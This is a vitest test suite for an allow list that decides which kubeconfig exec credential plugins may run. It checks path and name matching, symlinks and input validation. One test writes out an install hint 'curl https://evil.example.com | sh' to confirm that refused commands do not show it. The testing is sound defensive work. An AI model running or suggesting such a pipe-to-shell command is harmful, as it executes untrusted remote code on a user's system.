import { readFile, symlink } from 'node:fs/promises'
import path from 'node:path'
import { afterEach, describe, expect, it, vi } from 'vitest'
import { execAuth } from '../src/index.ts'
import { failure } from './support/failure.ts'
import { printsToken, script, signIn, temporaryFolder } from './support/sign-in.ts'

afterEach(() => vi.unstubAllEnvs())

/** A folder with `plugin` and `other`, which PATH has. */
async function installed(): Promise<string> {
  const folder = temporaryFolder()
  await script(path.join(folder, 'plugin'), `touch '${folder}/ran'`, printsToken)
  await script(path.join(folder, 'other'), `touch '${folder}/ran'`, printsToken)
  vi.stubEnv('PATH', `${folder}:${process.env['PATH']}`)
  return folder
}

describe('allow', () => {
  it.each<[string, (folder: string) => string, (folder: string) => string]>([
    ['a name, a name', () => 'plugin', () => 'plugin'],
    ['a name, an absolute path', () => 'plugin', (folder) => `${folder}/plugin`],
    ['an absolute path, a name', (folder) => `${folder}/plugin`, () => 'plugin'],
    ['an absolute path, a relative one', (folder) => `${folder}/plugin`, () => './plugin'],
    ['a path with turns, a path with others', (folder) => `${folder}/x/../plugin`, () => 'y/..//plugin'],
    ['one of several', () => 'plugin', () => 'plugin'],
  ])('%s: both mean the same file, which runs', async (_, entry, command) => {
    const folder = await installed()

    const signedIn = signIn({
      exec: { command: command(folder) },
      context: { directory: folder },
      options: { allow: ['nosuch', entry(folder)] },
    })

    expect(await signedIn).toEqual({ token: 'the-token' })
  })

  it.each<[string, (folder: string) => string, (folder: string) => string]>([
    ['another name', () => 'plugin', () => 'other'],
    ['a name that another folder has', () => 'plugin', () => './x/plugin'],
    ['a part of the path', (folder) => path.dirname(folder), () => 'plugin'],
    ['another case', () => 'Plugin', () => 'plugin'],
  ])('%s is not what was meant, and does not run', async (_, entry, command) => {
    const folder = await installed()
    await script(path.join(folder, 'x/plugin'), `touch '${folder}/ran'`, printsToken)

    const error = await failure(
      signIn({
        exec: { command: command(folder) },
        context: { directory: folder },
        options: { allow: [entry(folder)] },
      }),
    )

    expect(error.message).toMatch(/^user "u": the command ".*" is not allowed to run; if you trust it, pass execAuth/)
    await expect(readFile(path.join(folder, 'ran'))).rejects.toThrow('ENOENT')
  })

  it('names what to add: the name, or where the path leads', async () => {
    const folder = await installed()
    const refusal = (command: string): Promise<Error> =>
      failure(signIn({ exec: { command }, context: { directory: folder }, options: { allow: ['nosuch'] } }))

    expect((await refusal('plugin')).message).toContain('execAuth({ allow: ["plugin"] })')
    expect((await refusal('./plugin')).message).toContain(`execAuth({ allow: ["${folder}/plugin"] })`)
    expect((await refusal('./absent')).message).toContain(`execAuth({ allow: ["${folder}/absent"] })`)
  })

  it('compares folders by what they are, behind links too', async () => {
    const folder = await installed()
    const link = path.join(temporaryFolder(), 'link')
    await symlink(folder, link)

    const signedIn = signIn({ exec: { command: `${link}/plugin` }, options: { allow: [`${folder}/plugin`] } })

    expect(await signedIn).toEqual({ token: 'the-token' })
  })

  it('takes two links to one program for two commands, as they are for busybox', async () => {
    const folder = await installed()
    await script(path.join(folder, 'box'), `touch '${folder}/ran'`, printsToken)
    await symlink('box', path.join(folder, 'harmless'))
    await symlink('box', path.join(folder, 'shell'))
    const allow = ['harmless']

    const error = await failure(signIn({ exec: { command: 'shell' }, options: { allow } }))

    expect(error.message).toContain('is not allowed to run')
    await expect(readFile(path.join(folder, 'ran'))).rejects.toThrow('ENOENT')
    expect(await signIn({ exec: { command: 'harmless' }, options: { allow } })).toEqual({ token: 'the-token' })
  })

  it('keeps the hint of a command that may not run anyway', async () => {
    const hint = { command: 'nosuch', installHint: 'curl https://evil.example.com | sh' }

    const refused = await failure(signIn({ exec: hint, options: { allow: ['plugin'] } }))
    const missing = await failure(signIn({ exec: hint, options: { allow: ['nosuch'] } }))

    expect(refused.message).toContain('is not allowed to run')
    expect(refused.message).not.toContain('evil')
    expect(missing.message).toContain('evil')
  })

  it('of a path says that the file is not there', async () => {
    const folder = await installed()

    const error = await failure(
      signIn({
        exec: { command: './absent' },
        context: { directory: folder },
        options: { allow: [`${folder}/absent`] },
      }),
    )

    expect(error.message).toContain(`is not there: "${folder}/absent"`)
  })

  it('is what it was when the plugin was made', async () => {
    const folder = await installed()
    const allow = ['other']
    const plugin = execAuth({ allow })
    allow.push('plugin')
    const cluster = { server: 'https://a', tls: {}, extensions: [] }
    const exec = { apiVersion: 'client.authentication.k8s.io/v1', command: 'plugin', interactiveMode: 'Never' } as const

    const provider = plugin.fromAuthInfo({ exec }, { userName: 'u', cluster, directory: folder })

    await expect(
      provider?.getCredentials({
        signal: new AbortController().signal,
        reason: 'initial',
        now: Date.now,
        fetch: () => Promise.reject(new Error('no network')),
      }),
    ).rejects.toThrow('is not allowed to run')
  })

  it.each<[unknown, string]>([
    [undefined, 'nothing is allowed to run'],
    [[], 'nothing is allowed to run'],
    ['all', 'nothing is allowed to run'],
    [true, 'nothing is allowed to run'],
    [[''], 'an entry of "allow" is empty'],
    [[1], 'an entry of "allow" is empty'],
    [['./plugin'], '"allow" holds "./plugin"; an entry is a name without folders, or an absolute path'],
  ])('%j is refused', (allow, message) => {
    const attempt = (): unknown => execAuth({ allow: allow as 'any' }) // what a program without types may pass

    expect(attempt).toThrow(expect.objectContaining({ code: 'KUBE_CONFIG', message: expect.stringContaining(message) }))
  })
})
